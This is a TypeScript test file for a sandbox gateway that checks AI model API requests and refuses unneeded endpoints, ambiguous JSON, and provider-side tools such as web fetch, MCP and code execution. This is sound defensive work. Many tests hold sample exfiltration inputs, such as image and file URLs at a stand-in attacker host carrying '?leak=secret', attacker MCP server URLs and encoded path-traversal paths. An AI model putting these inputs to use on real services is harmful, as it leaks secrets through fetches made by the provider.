// The model gateway's rules: only the endpoints the CLIs need, JSON read as the provider reads it, and none of the
// provider's server-side tools unless the persona allows their kind. The real CLIs' own requests (recorded against
// the scripted model, test/fixtures/gateway/cli-requests.json) pass unchanged.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { PROVIDER_TOOLS, type ProviderTool } from '../../../../src/config/types.js';
import {
  checkGatewayRequest,
  gatewayRefusalResponse,
  type GatewayCheck,
  type GatewayRequest,
} from '../../../../src/sandbox/egress/gateway-rules.js';
import { findDuplicateKey, parseStrictJson } from '../../../../src/sandbox/egress/gateway-rules-json.js';
import type { ProviderId } from '../../../../src/sandbox/egress/providers.js';

const JSON_HEADERS = { 'content-type': 'application/json' };

function check(provider: ProviderId, path: string, body: unknown, extra: Partial<GatewayRequest> = {}): GatewayCheck {
  const raw = body === undefined ? Buffer.alloc(0) : Buffer.isBuffer(body) ? body : Buffer.from(JSON.stringify(body));
  return checkGatewayRequest({
    provider,
    method: body === undefined ? 'GET' : 'POST',
    path,
    headers: JSON_HEADERS,
    body: raw,
    ...extra,
  });
}

function refused(result: GatewayCheck, status: number, reason: string, pattern?: RegExp): void {
  assert.equal(result.ok, false, 'refused');
  if (result.ok) return;
  assert.equal(result.status, status, result.message);
  assert.equal(result.reason, reason);
  if (pattern) assert.match(result.message, pattern);
}

const passes = (result: GatewayCheck) => assert.ok(result.ok, result.ok ? '' : result.message);

const messages = (extra: Record<string, unknown> = {}) => ({
  model: 'm',
  max_tokens: 10,
  messages: [{ role: 'user', content: 'hi' }],
  ...extra,
});
const responses = (extra: Record<string, unknown> = {}) => ({ model: 'm', input: 'hi', ...extra });
const chat = (extra: Record<string, unknown> = {}) => ({
  model: 'm',
  messages: [{ role: 'user', content: 'hi' }],
  ...extra,
});
const gemini = (extra: Record<string, unknown> = {}) => ({
  contents: [{ role: 'user', parts: [{ text: 'hi' }] }],
  ...extra,
});
const GEN = '/v1beta/models/gemini-2.5-flash:streamGenerateContent';

describe('gateway rules: the requests the real CLIs send', () => {
  const fixture = JSON.parse(
    readFileSync(new URL('../../../fixtures/gateway/cli-requests.json', import.meta.url), 'utf8'),
  ) as {
    requests: {
      cli: string;
      provider: ProviderId;
      method: string;
      path: string;
      expect: string;
      headers: Record<string, string>;
      body: unknown;
    }[];
  };
  for (const r of fixture.requests) {
    it(`${r.cli} ${r.method} ${r.path}: ${r.expect === 'pass' ? 'forwarded byte for byte' : `refused as ${r.expect}, forwarded once allowed`}`, () => {
      const body = Buffer.from(JSON.stringify(r.body));
      const request = { provider: r.provider, method: r.method, path: r.path, headers: r.headers, body };
      const result = checkGatewayRequest(request);
      if (r.expect === 'pass') {
        assert.ok(result.ok, result.ok ? '' : result.message);
        assert.equal(result.body, body, 'the same buffer, untouched');
        assert.equal(result.headers, r.headers);
        return;
      }
      refused(result, 403, 'provider_tool', new RegExp(`sandbox\\.provider_tools: \\[${r.expect}\\]`));
      passes(checkGatewayRequest({ ...request, allow: [r.expect as ProviderTool] }));
    });
  }
});

describe('gateway rules: methods and paths', () => {
  const allowed: [ProviderId, string, string][] = [
    ['anthropic', 'POST', '/v1/messages'],
    ['anthropic', 'POST', '/v1/messages/count_tokens'],
    ['anthropic', 'GET', '/v1/models'],
    ['anthropic', 'GET', '/v1/models/claude-haiku-4-5'],
    ['openai', 'POST', '/responses'],
    ['openai', 'POST', '/responses/compact'],
    ['openai', 'POST', '/chat/completions'],
    ['openai', 'GET', '/models'],
    ['openai', 'GET', '/models/gpt-5.5'],
    ['gemini', 'POST', '/v1beta/models/gemini-2.5-flash:generateContent'],
    ['gemini', 'POST', '/v1beta/models/gemini-2.5-flash:streamGenerateContent'],
    ['gemini', 'POST', '/v1beta/models/gemini-2.5-flash:countTokens'],
    ['gemini', 'GET', '/v1beta/models'],
    ['gemini', 'GET', '/v1beta/models/gemini-2.5-flash'],
  ];
  const bodyFor = (provider: ProviderId, path: string) =>
    provider === 'anthropic'
      ? messages()
      : provider === 'gemini'
        ? gemini()
        : path.startsWith('/chat')
          ? chat()
          : responses();
  for (const [provider, method, path] of allowed) {
    it(`${provider}: ${method} ${path} is forwarded`, () =>
      passes(check(provider, path, method === 'GET' ? undefined : bodyFor(provider, path))));
  }

  const unknown: [ProviderId, string, string][] = [
    ['anthropic', 'POST', '/v1/files'],
    ['anthropic', 'POST', '/v1/messages/batches'],
    ['anthropic', 'GET', '/v1/messages/batches/msgbatch_1/results'],
    ['anthropic', 'POST', '/v1/skills'],
    ['anthropic', 'POST', '/api/event_logging/batch'],
    ['anthropic', 'POST', '/v1/messages/'],
    ['anthropic', 'POST', '/V1/messages'],
    ['anthropic', 'POST', '//v1/messages'],
    ['anthropic', 'GET', '/v1/models/a%2F..%2Ffiles'],
    ['openai', 'POST', '/files'],
    ['openai', 'POST', '/vector_stores'],
    ['openai', 'POST', '/containers'],
    ['openai', 'POST', '/uploads'],
    ['openai', 'POST', '/images/generations'],
    ['openai', 'POST', '/realtime/sessions'],
    ['openai', 'POST', '/assistants'],
    ['openai', 'GET', '/responses/resp_123'],
    ['openai', 'POST', '/v1/responses'],
    ['gemini', 'POST', '/upload/v1beta/files'],
    ['gemini', 'POST', '/v1beta/files'],
    ['gemini', 'POST', '/v1beta/cachedContents'],
    ['gemini', 'POST', '/v1beta/models/gemini-2.5-flash:embedContent'],
    ['gemini', 'POST', '/v1beta/tunedModels/x:generateContent'],
    ['gemini', 'POST', '/v1beta/models/a%2F..%2Fx:generateContent'],
    ['gemini', 'POST', '/v1/models/gemini-2.5-flash:generateContent'],
  ];
  for (const [provider, method, path] of unknown) {
    it(`${provider}: ${method} ${path} is refused (404 gateway_path)`, () => {
      refused(
        check(provider, path, method === 'GET' ? undefined : bodyFor(provider, path)),
        404,
        'gateway_path',
        /is not an endpoint the agent CLIs need; the \w+ gateway forwards POST/,
      );
    });
  }

  it('a known path with another method: 405, naming the methods it takes', () => {
    refused(
      checkGatewayRequest({
        provider: 'anthropic',
        method: 'DELETE',
        path: '/v1/messages',
        headers: {},
        body: Buffer.alloc(0),
      }),
      405,
      'gateway_path',
      /only POST/,
    );
    refused(
      checkGatewayRequest({
        provider: 'openai',
        method: 'POST',
        path: '/models',
        headers: JSON_HEADERS,
        body: Buffer.from('{}'),
      }),
      405,
      'gateway_path',
      /POST \/v1\/models is not allowed \(only GET\)/,
    );
    refused(
      checkGatewayRequest({
        provider: 'gemini',
        method: 'HEAD',
        path: '/v1beta/models',
        headers: {},
        body: Buffer.alloc(0),
      }),
      405,
      'gateway_path',
    );
  });

  it('messages name the path as the CLI sent it (OpenAI under /v1)', () => {
    const r = check('openai', '/files', {});
    assert.ok(!r.ok);
    assert.match(r.detail, /^POST \/v1\/files /);
    assert.match(
      r.message,
      /POST \/v1\/responses; POST \/v1\/responses\/compact; POST \/v1\/chat\/completions; GET \/v1\/models\[\/<id>\]/,
    );
  });
});

describe('gateway rules: bodies are read as the provider reads them', () => {
  it('a GET with a body is refused', () => {
    refused(
      checkGatewayRequest({
        provider: 'anthropic',
        method: 'GET',
        path: '/v1/models',
        headers: {},
        body: Buffer.from('x'),
      }),
      400,
      'gateway_body',
    );
  });
  it('not JSON, not an object, empty: 400', () => {
    refused(check('anthropic', '/v1/messages', Buffer.from('tools=web_search')), 400, 'gateway_body', /not valid JSON/);
    refused(check('anthropic', '/v1/messages', Buffer.from('[1]')), 400, 'gateway_body', /JSON object/);
    refused(check('anthropic', '/v1/messages', Buffer.alloc(0)), 400, 'gateway_body');
    refused(check('anthropic', '/v1/messages', Buffer.from('\uFEFF{}')), 400, 'gateway_body');
  });
  it('invalid UTF-8 is refused (the provider might read the bytes another way)', () => {
    refused(
      check('anthropic', '/v1/messages', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d])),
      400,
      'gateway_body',
      /UTF-8/,
    );
  });
  it('a key given twice is refused, at any depth and however it is escaped', () => {
    const twice = '{"model":"m","tools":[],"tools":[{"type":"web_search_20250305","name":"web_search"}],"messages":[]}';
    refused(check('anthropic', '/v1/messages', Buffer.from(twice)), 400, 'gateway_body', /key "tools" twice/);
    refused(check('anthropic', '/v1/messages', Buffer.from('{"a":{"b":1,"b":2}}')), 400, 'gateway_body', /"b"/);
    refused(
      check('anthropic', '/v1/messages', Buffer.from('{"tools":[],"tool\\u0073":[]}')),
      400,
      'gateway_body',
      /"tools"/,
    );
  });
  it('the same key in sibling objects, keys inside strings, escaped quotes: no duplicate', () => {
    assert.equal(findDuplicateKey('{"a":[{"k":1},{"k":2}],"b":{"k":"\\"k\\":"},"c":"{\\"a\\":1}"}'), undefined);
    assert.equal(findDuplicateKey('{"s":"x\\\\","s2":{"s":1}}'), undefined);
    assert.equal(findDuplicateKey('{"s":"x\\\\","s":1}'), 's');
    assert.deepEqual(parseStrictJson(Buffer.from('{"a":[1,{"b":"é"}]}')), { ok: true, value: { a: [1, { b: 'é' }] } });
  });
  it('content-type must be JSON; content-encoding must be none', () => {
    const body = Buffer.from(JSON.stringify(messages()));
    const req = { provider: 'anthropic' as const, method: 'POST', path: '/v1/messages', body };
    refused(checkGatewayRequest({ ...req, headers: {} }), 415, 'gateway_body', /application\/json/);
    refused(checkGatewayRequest({ ...req, headers: { 'content-type': 'text/plain' } }), 415, 'gateway_body');
    refused(
      checkGatewayRequest({ ...req, headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' } }),
      415,
      'gateway_body',
      /uncompressed/,
    );
    passes(
      checkGatewayRequest({
        ...req,
        headers: { 'content-type': 'application/json; charset=utf-8', 'content-encoding': 'identity' },
      }),
    );
  });
  it('a body above the bound: 413', () => {
    refused(check('openai', '/responses', responses(), { maxBodyBytes: 10 }), 413, 'gateway_body');
  });
  it('content nested deeper than can be checked is refused, not skipped', () => {
    let content: unknown = [{ type: 'image', source: { type: 'url', url: 'https://attacker.example/x' } }];
    for (let i = 0; i < 80; i++) content = [{ type: 'tool_result', tool_use_id: 't', content }];
    refused(
      check('anthropic', '/v1/messages', messages({ messages: [{ role: 'user', content }] })),
      400,
      'gateway_body',
      /deeper than 64/,
    );
  });
});

describe('gateway rules: Anthropic server-side tools', () => {
  const tool = (type: string, name = type.replace(/_\d+$/, '')) =>
    messages({
      tools: [
        { name: 'Bash', input_schema: { type: 'object' } },
        { type, name },
      ],
    });
  const cases: [string, ProviderTool][] = [
    ['web_search_20250305', 'web_search'],
    ['web_fetch_20250910', 'web_fetch'],
    ['code_execution_20250522', 'code_execution'],
    ['code_execution_20250825', 'code_execution'],
    ['mcp_toolset', 'mcp'],
    ['computer_20250124', 'computer_use'],
  ];
  for (const [type, kind] of cases) {
    it(`tools: ${type} is refused as ${kind}, and passes when the persona allows ${kind}`, () => {
      refused(
        check('anthropic', '/v1/messages', tool(type)),
        403,
        'provider_tool',
        new RegExp(`tools\\[1\\] \\(type "${type}"\\).*sandbox\\.provider_tools: \\[${kind}\\]`),
      );
      passes(check('anthropic', '/v1/messages', tool(type), { allow: [kind] }));
      // count_tokens is checked the same way.
      refused(check('anthropic', '/v1/messages/count_tokens', tool(type)), 403, 'provider_tool');
    });
  }
  it('another kind allowed does not let it through', () => {
    refused(
      check('anthropic', '/v1/messages', tool('web_fetch_20250910'), {
        allow: ['web_search', 'code_execution', 'mcp'],
      }),
      403,
      'provider_tool',
      /\[web_fetch\]/,
    );
  });
  it('client tools pass: plain, custom, bash, text_editor, memory, tool search', () => {
    for (const type of [
      'custom',
      'bash_20250124',
      'text_editor_20250728',
      'memory_20250818',
      'tool_search_tool_regex_20251119',
    ])
      passes(check('anthropic', '/v1/messages', tool(type)));
  });
  it('an unknown tool type is refused and cannot be allowed', () => {
    refused(
      check('anthropic', '/v1/messages', tool('web_browser_20260101')),
      403,
      'provider_tool',
      /Wave does not know/,
    );
    refused(check('anthropic', '/v1/messages', tool('Web_Search_20250305')), 403, 'provider_tool');
    refused(
      check('anthropic', '/v1/messages', tool('web_browser_20260101'), { allow: [...PROVIDER_TOOLS] }),
      403,
      'provider_tool',
    );
  });
  it('mcp_servers and container in the body are refused; any spelling of the field', () => {
    const servers = [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }];
    refused(
      check('anthropic', '/v1/messages', messages({ mcp_servers: servers })),
      403,
      'provider_tool',
      /mcp_servers.*\[mcp\]/,
    );
    refused(check('anthropic', '/v1/messages', messages({ mcpServers: servers })), 403, 'provider_tool', /\[mcp\]/);
    refused(check('anthropic', '/v1/messages', messages({ 'MCP-SERVERS': servers })), 403, 'provider_tool', /\[mcp\]/);
    passes(check('anthropic', '/v1/messages', messages({ mcp_servers: servers }), { allow: ['mcp'] }));
    refused(
      check('anthropic', '/v1/messages', messages({ container: 'container_1' })),
      403,
      'provider_tool',
      /\[code_execution\]/,
    );
  });
  it('a second `Tools` field is inspected too', () => {
    refused(
      check(
        'anthropic',
        '/v1/messages',
        messages({ tools: [], Tools: [{ type: 'web_search_20250305', name: 'web_search' }] }),
      ),
      403,
      'provider_tool',
      /Tools\[0\]/,
    );
  });
  it('content the provider fetches by URL: images and documents, also inside tool results and documents', () => {
    const url = { type: 'url', url: 'https://attacker.example/?leak=secret' };
    const user = (content: unknown) => messages({ messages: [{ role: 'user', content }] });
    refused(
      check('anthropic', '/v1/messages', user([{ type: 'image', source: url }])),
      403,
      'provider_tool',
      /messages\[0\]\.content\[0\]\.source.*\[web_fetch\]/,
    );
    refused(
      check('anthropic', '/v1/messages', user([{ type: 'document', source: url }])),
      403,
      'provider_tool',
      /\[web_fetch\]/,
    );
    refused(
      check(
        'anthropic',
        '/v1/messages',
        user([{ type: 'tool_result', tool_use_id: 't', content: [{ type: 'image', source: url }] }]),
      ),
      403,
      'provider_tool',
      /content\[0\]\.content\[0\]\.source/,
    );
    refused(
      check(
        'anthropic',
        '/v1/messages',
        user([{ type: 'document', source: { type: 'content', content: [{ type: 'image', source: url }] } }]),
      ),
      403,
      'provider_tool',
    );
    refused(
      check(
        'anthropic',
        '/v1/messages',
        messages({
          system: [
            { type: 'text', text: 's' },
            { type: 'image', source: url },
          ],
        }),
      ),
      403,
      'provider_tool',
      /system\[1\]/,
    );
    refused(
      check('anthropic', '/v1/messages', user([{ type: 'image', source: { type: 'file', file_id: 'file_1' } }])),
      403,
      'provider_tool',
      /\[file_search\]/,
    );
    passes(check('anthropic', '/v1/messages', user([{ type: 'image', source: url }]), { allow: ['web_fetch'] }));
    // Inline data is the step's own: it passes. A tool's input is the model's, not content: not searched.
    passes(
      check(
        'anthropic',
        '/v1/messages',
        user([{ type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'AAAA' } }]),
      ),
    );
    passes(
      check(
        'anthropic',
        '/v1/messages',
        messages({
          messages: [
            {
              role: 'assistant',
              content: [
                { type: 'tool_use', id: 't', name: 'Write', input: { source: url, content: [{ source: url }] } },
              ],
            },
          ],
        }),
      ),
    );
  });
  it('MCP and container blocks in the conversation are refused', () => {
    const user = (content: unknown) => messages({ messages: [{ role: 'assistant', content }] });
    refused(
      check(
        'anthropic',
        '/v1/messages',
        user([{ type: 'mcp_tool_use', id: 'x', name: 'n', server_name: 's', input: {} }]),
      ),
      403,
      'provider_tool',
      /\[mcp\]/,
    );
    refused(
      check(
        'anthropic',
        '/v1/messages',
        messages({ messages: [{ role: 'user', content: [{ type: 'container_upload', file_id: 'f' }] }] }),
      ),
      403,
      'provider_tool',
      /\[code_execution\]/,
    );
  });
  it('beta headers that switch on server-side tools are refused; the betas Claude Code sends pass', () => {
    const withBeta = (beta: string | string[], allow: ProviderTool[] = []) =>
      checkGatewayRequest({
        provider: 'anthropic',
        method: 'POST',
        path: '/v1/messages',
        headers: { ...JSON_HEADERS, 'anthropic-beta': beta },
        body: Buffer.from(JSON.stringify(messages())),
        allow,
      });
    for (const [beta, kind] of [
      ['mcp-client-2025-04-04', 'mcp'],
      ['mcp-client-2025-11-20', 'mcp'],
      ['code-execution-2025-08-25', 'code_execution'],
      ['skills-2025-10-02', 'code_execution'],
      ['web-fetch-2025-09-10', 'web_fetch'],
      ['computer-use-2025-01-24', 'computer_use'],
      ['files-api-2025-04-14', 'file_search'],
    ] as const) {
      refused(
        withBeta(`interleaved-thinking-2025-05-14, ${beta.toUpperCase()}`),
        403,
        'provider_tool',
        new RegExp(`header anthropic-beta.*\\[${kind}\\]`),
      );
      refused(withBeta(['claude-code-20250219', beta]), 403, 'provider_tool');
      passes(withBeta(beta, [kind]));
    }
    passes(
      withBeta(
        'interleaved-thinking-2025-05-14,context-management-2025-06-27,claude-code-20250219,advanced-tool-use-2025-11-20,fine-grained-tool-streaming-2025-05-14',
      ),
    );
    // Also on the model list: a beta is refused wherever it is sent.
    refused(
      checkGatewayRequest({
        provider: 'anthropic',
        method: 'GET',
        path: '/v1/models',
        headers: { 'anthropic-beta': 'mcp-client-2025-04-04' },
        body: Buffer.alloc(0),
      }),
      403,
      'provider_tool',
    );
  });
  it('the refusal names the first finding and counts the others', () => {
    const r = check(
      'anthropic',
      '/v1/messages',
      messages({
        mcp_servers: [],
        tools: [
          { type: 'web_search_20250305', name: 'w' },
          { type: 'web_fetch_20250910', name: 'f' },
        ],
      }),
    );
    assert.ok(!r.ok);
    assert.equal(r.detail, 'mcp: mcp_servers, a list of MCP servers the provider connects to (and 2 more)');
  });
});

describe('gateway rules: OpenAI Responses and Chat Completions', () => {
  const fn = { type: 'function', name: 'exec_command', parameters: { type: 'object' } };
  const cases: [Record<string, unknown>, ProviderTool][] = [
    [{ type: 'web_search' }, 'web_search'],
    [{ type: 'web_search', external_web_access: true }, 'web_search'],
    [{ type: 'web_search_preview' }, 'web_search'],
    [{ type: 'web_search_preview_2025_03_11' }, 'web_search'],
    [{ type: 'file_search', vector_store_ids: ['vs_1'] }, 'file_search'],
    [{ type: 'code_interpreter', container: { type: 'auto' } }, 'code_execution'],
    [{ type: 'shell', environment: { type: 'container_auto' } }, 'code_execution'],
    [{ type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' }, 'mcp'],
    [{ type: 'mcp', server_label: 'gmail', connector_id: 'connector_gmail' }, 'mcp'],
    [{ type: 'image_generation' }, 'image_generation'],
    [{ type: 'computer_use_preview', display_width: 1, display_height: 1, environment: 'linux' }, 'computer_use'],
  ];
  for (const [tool, kind] of cases) {
    it(`responses tools: ${JSON.stringify(tool)} is refused as ${kind}, passes when allowed`, () => {
      refused(
        check('openai', '/responses', responses({ tools: [fn, tool] })),
        403,
        'provider_tool',
        new RegExp(`tools\\[1\\].*\\[${kind}\\]`),
      );
      refused(check('openai', '/responses/compact', responses({ tools: [fn, tool] })), 403, 'provider_tool');
      passes(check('openai', '/responses', responses({ tools: [fn, tool] }), { allow: [kind] }));
    });
  }
  it('client tools pass: function, custom, local_shell, shell, apply_patch, and a namespace of functions', () => {
    const tools = [
      fn,
      { type: 'custom', name: 'apply_patch' },
      { type: 'local_shell' },
      { type: 'shell' },
      { type: 'shell', environment: { type: 'local' } },
      { type: 'apply_patch' },
      { type: 'namespace', name: 'ns', tools: [fn] },
    ];
    passes(check('openai', '/responses', responses({ tools })));
  });
  it('a namespace is inspected inside; unknown types are refused', () => {
    refused(
      check(
        'openai',
        '/responses',
        responses({ tools: [{ type: 'namespace', name: 'ns', tools: [fn, { type: 'web_search' }] }] }),
      ),
      403,
      'provider_tool',
      /tools\[0\]\.tools\[1\].*\[web_search\]/,
    );
    refused(
      check('openai', '/responses', responses({ tools: [{ type: 'browser' }] })),
      403,
      'provider_tool',
      /Wave does not know/,
    );
    refused(check('openai', '/responses', responses({ tools: [{ name: 'no type' }] })), 403, 'provider_tool');
  });
  it('tool_choice allowed_tools naming a hosted tool; a stored prompt', () => {
    refused(
      check(
        'openai',
        '/responses',
        responses({ tool_choice: { type: 'allowed_tools', mode: 'auto', tools: [{ type: 'web_search' }] } }),
      ),
      403,
      'provider_tool',
      /\[web_search\]/,
    );
    refused(
      check('openai', '/responses', responses({ prompt: { id: 'pmpt_1' } })),
      403,
      'provider_tool',
      /stored at the provider/,
    );
  });
  it('input images and files the provider fetches by URL, or has stored; data URLs pass', () => {
    const input = (content: unknown[]) => responses({ input: [{ role: 'user', content }] });
    refused(
      check('openai', '/responses', input([{ type: 'input_image', image_url: 'https://attacker.example/?q=secret' }])),
      403,
      'provider_tool',
      /input\[0\]\.content\[0\]\.image_url.*\[web_fetch\]/,
    );
    refused(
      check('openai', '/responses', input([{ type: 'input_file', file_url: 'https://attacker.example/f.pdf' }])),
      403,
      'provider_tool',
      /\[web_fetch\]/,
    );
    refused(
      check('openai', '/responses', input([{ type: 'input_file', file_id: 'file-1' }])),
      403,
      'provider_tool',
      /\[file_search\]/,
    );
    const output = responses({
      input: [
        {
          type: 'function_call_output',
          call_id: 'c',
          output: [{ type: 'input_image', image_url: 'http://attacker.example/x' }],
        },
      ],
    });
    refused(check('openai', '/responses', output), 403, 'provider_tool', /input\[0\]\.output\[0\]/);
    passes(
      check(
        'openai',
        '/responses',
        input([
          { type: 'input_text', text: 'https://example.com is just text' },
          { type: 'input_image', image_url: 'data:image/png;base64,AAAA' },
        ]),
      ),
    );
    passes(
      check('openai', '/responses', input([{ type: 'input_image', image_url: 'https://x.example/a.png' }]), {
        allow: ['web_fetch'],
      }),
    );
  });
  it('chat completions: only function and custom tools; web_search_options; image URLs', () => {
    passes(
      check(
        'openai',
        '/chat/completions',
        chat({
          tools: [
            { type: 'function', function: { name: 'bash', parameters: {} } },
            { type: 'custom', custom: { name: 'x' } },
          ],
        }),
      ),
    );
    refused(check('openai', '/chat/completions', chat({ tools: [{ type: 'web_search' }] })), 403, 'provider_tool');
    refused(
      check('openai', '/chat/completions', chat({ tools: [{ type: 'retrieval' }] })),
      403,
      'provider_tool',
      /Wave does not know/,
    );
    refused(
      check('openai', '/chat/completions', chat({ web_search_options: {} })),
      403,
      'provider_tool',
      /\[web_search\]/,
    );
    passes(check('openai', '/chat/completions', chat({ web_search_options: {} }), { allow: ['web_search'] }));
    const image = chat({
      messages: [
        { role: 'user', content: [{ type: 'image_url', image_url: { url: 'https://attacker.example/x.png' } }] },
      ],
    });
    refused(
      check('openai', '/chat/completions', image),
      403,
      'provider_tool',
      /messages\[0\]\.content\[0\]\.image_url.*\[web_fetch\]/,
    );
    const inline = chat({
      messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'data:image/png;base64,AAAA' } }] }],
    });
    passes(check('openai', '/chat/completions', inline));
    refused(
      check(
        'openai',
        '/chat/completions',
        chat({ messages: [{ role: 'user', content: [{ type: 'file', file: { file_id: 'file-1' } }] }] }),
      ),
      403,
      'provider_tool',
      /\[file_search\]/,
    );
  });
});

describe('gateway rules: Gemini', () => {
  const fns = { functionDeclarations: [{ name: 'read_file', parameters: { type: 'OBJECT' } }] };
  const cases: [string, ProviderTool][] = [
    ['googleSearch', 'web_search'],
    ['google_search', 'web_search'],
    ['googleSearchRetrieval', 'web_search'],
    ['googleMaps', 'web_search'],
    ['enterpriseWebSearch', 'web_search'],
    ['urlContext', 'web_fetch'],
    ['url_context', 'web_fetch'],
    ['codeExecution', 'code_execution'],
    ['code_execution', 'code_execution'],
    ['computerUse', 'computer_use'],
    ['fileSearch', 'file_search'],
    ['retrieval', 'file_search'],
  ];
  for (const [field, kind] of cases) {
    it(`tools: ${field} is refused as ${kind}, passes when allowed`, () => {
      refused(
        check('gemini', GEN, gemini({ tools: [fns, { [field]: {} }] })),
        403,
        'provider_tool',
        new RegExp(`tools\\[1\\]\\.${field}.*\\[${kind}\\]`),
      );
      passes(check('gemini', GEN, gemini({ tools: [fns, { [field]: {} }] }), { allow: [kind] }));
    });
  }
  it('function declarations pass in either spelling; another field in the same tool object is caught', () => {
    passes(check('gemini', GEN, gemini({ tools: [fns, { function_declarations: [] }] })));
    refused(
      check('gemini', GEN, gemini({ tools: [{ functionDeclarations: [], googleSearch: {} }] })),
      403,
      'provider_tool',
      /tools\[0\]\.googleSearch/,
    );
    refused(check('gemini', GEN, gemini({ tools: [{ mystery: {} }] })), 403, 'provider_tool', /Wave does not know/);
  });
  it('fileData parts (the provider reads a URI), also in function responses and the system instruction', () => {
    const part = (p: unknown) => gemini({ contents: [{ role: 'user', parts: [{ text: 'x' }, p] }] });
    refused(
      check('gemini', GEN, part({ fileData: { fileUri: 'https://attacker.example/x', mimeType: 'text/html' } })),
      403,
      'provider_tool',
      /contents\[0\]\.parts\[1\]\.fileData.*\[web_fetch\]/,
    );
    refused(
      check('gemini', GEN, part({ file_data: { file_uri: 'https://attacker.example/x' } })),
      403,
      'provider_tool',
    );
    refused(
      check(
        'gemini',
        GEN,
        part({
          functionResponse: { name: 'f', response: {}, parts: [{ fileData: { fileUri: 'https://a.example' } }] },
        }),
      ),
      403,
      'provider_tool',
      /functionResponse\.parts\[0\]/,
    );
    refused(
      check('gemini', GEN, gemini({ systemInstruction: { parts: [{ fileData: { fileUri: 'https://a.example' } }] } })),
      403,
      'provider_tool',
      /systemInstruction/,
    );
    passes(check('gemini', GEN, part({ inlineData: { mimeType: 'image/png', data: 'AAAA' } })));
    // A model's call arguments and a tool's response object are not content: not searched.
    passes(check('gemini', GEN, part({ functionCall: { name: 'f', args: { fileData: { fileUri: 'x' } } } })));
  });
  it('cached content by reference; countTokens wrapping a generateContent request', () => {
    refused(
      check('gemini', GEN, gemini({ cachedContent: 'cachedContents/abc' })),
      403,
      'provider_tool',
      /stored at the provider/,
    );
    const count = '/v1beta/models/gemini-2.5-flash:countTokens';
    refused(
      check('gemini', count, {
        generateContentRequest: { model: 'models/x', ...gemini({ tools: [{ googleSearch: {} }] }) },
      }),
      403,
      'provider_tool',
      /generateContentRequest\.tools\[0\]/,
    );
  });
});

describe('gateway rules: the refusal as the provider would answer', () => {
  for (const [provider, pattern] of [
    ['anthropic', /^\{"type":"error","error":\{"type":"permission_error","message":"wave model gateway refused/],
    ['openai', /^\{"error":\{"message":"wave model gateway refused.*"type":"invalid_request_error"/],
    ['gemini', /^\{"error":\{"code":403,"message":"wave model gateway refused.*"status":"PERMISSION_DENIED"/],
  ] as const) {
    it(provider, () => {
      const path = provider === 'anthropic' ? '/v1/messages' : provider === 'openai' ? '/responses' : GEN;
      const body =
        provider === 'anthropic'
          ? messages({ tools: [{ type: 'web_search_20250305', name: 'w' }] })
          : provider === 'openai'
            ? responses({ tools: [{ type: 'web_search' }] })
            : gemini({ tools: [{ googleSearch: {} }] });
      const r = check(provider, path, body);
      assert.ok(!r.ok);
      const res = gatewayRefusalResponse(provider, r);
      assert.equal(res.status, 403);
      assert.equal(res.headers['content-length'], String(res.body.length));
      assert.match(res.body.toString(), pattern);
      assert.match(res.body.toString(), /sandbox\.provider_tools: \[web_search\]/);
    });
  }
});

describe('provider_tools names', () => {
  it('the manifest schema lists exactly PROVIDER_TOOLS', () => {
    const schema = JSON.parse(
      readFileSync(new URL('../../../../src/config/schemas/manifest.schema.json', import.meta.url), 'utf8'),
    );
    assert.deepEqual(schema.definitions.sandboxPolicy.properties.provider_tools.items.enum, [...PROVIDER_TOOLS]);
  });
});
